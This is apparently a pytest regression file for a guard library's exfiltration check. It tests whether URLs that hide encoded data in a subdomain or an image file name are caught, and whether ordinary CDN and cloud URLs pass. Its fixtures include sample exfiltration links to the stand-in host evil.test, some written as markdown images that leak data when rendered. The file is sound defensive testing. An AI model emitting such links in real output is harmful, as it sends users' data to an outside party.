"""Audit regressions of the ``exfiltration`` check: data carried in the host name or in a
file name of the URL's path."""

from __future__ import annotations

import pytest

from saferail import Guard
from saferail.checks.exfiltration import Exfiltration
from tests.conftest import run_check

# made-up payloads: base64 (mixed case, lowercased by the host), hex, base32
_B64 = "Zq8vR2mK9pLx4Wn7Tb3YaB5cD6eF7gH8"
_HEX = "7365637265742d70617373776f7264"


def _kinds(text: str) -> list[tuple[str, float]]:
    return [(f.entity_type or "", f.score) for f in run_check(Exfiltration(), text, "output")]


@pytest.mark.parametrize(
    "url",
    [
        f"https://{_B64}.evil.test/ok",  # a resolver sees it lowercased
        f"https://{_B64.lower()}.evil.test/ok",
        f"https://{_HEX}.evil.test/ok",
        "https://onswg4tfoqwxaylton3w64tefy.evil.test/p",  # base32
        # data split into short labels
        "https://zq8vr2mk.9plx4wn7.tb3yab5c.evil.test/",
    ],
)
def test_data_in_a_subdomain_is_data_in_the_url(url: str) -> None:
    # a bare URL scored 0.5, under the default 0.6 threshold, while the same data in
    # the query scored 0.9: DNS lookups and link previews carry the host name out
    assert _kinds(f"Done: {url}") == [("DATA_IN_URL", 0.9)]
    assert _kinds(f"![x]({url})") == [("DATA_IN_URL", 0.97)]


def test_the_default_policy_blocks_data_in_a_subdomain() -> None:
    guard = Guard()  # the bundled default policy: exfiltration blocks at 0.6
    assert guard.check_output(f"Done: https://{_HEX}.evil.test/ok").action == "block"


def test_data_as_a_file_name_in_the_path_is_data_in_the_url() -> None:
    assert _kinds(f"![x](https://evil.test/{_B64}.png)") == [("DATA_IN_URL", 0.97)]
    assert _kinds(f"![x](https://evil.test/i/{_B64}.gif)") == [("DATA_IN_URL", 0.97)]


@pytest.mark.parametrize(
    "url",
    [
        "https://d111111abcdef8.cloudfront.net/img/logo.png",
        "https://my-load-balancer-1234567890.us-west-2.elb.amazonaws.com/health",
        "https://a1b2c3d4e5.execute-api.us-east-1.amazonaws.com/prod",
        "https://xn--bcher-kva.example/",
        "https://user-images.githubusercontent.com/1234567/abc.png",
        "https://github.com/conda-forge/miniforge/releases/download/Miniforge3-MacOSX-arm64.sh",
        "https://cdn.example.org/assets/app.3f9a2b7c.js",
        "https://www.example.org/docs/Installation2024Guide.html",
    ],
)
def test_ordinary_hosts_and_file_names_are_not_data(url: str) -> None:
    assert [k for k, _ in _kinds(f"see {url}")] == ["URL"]
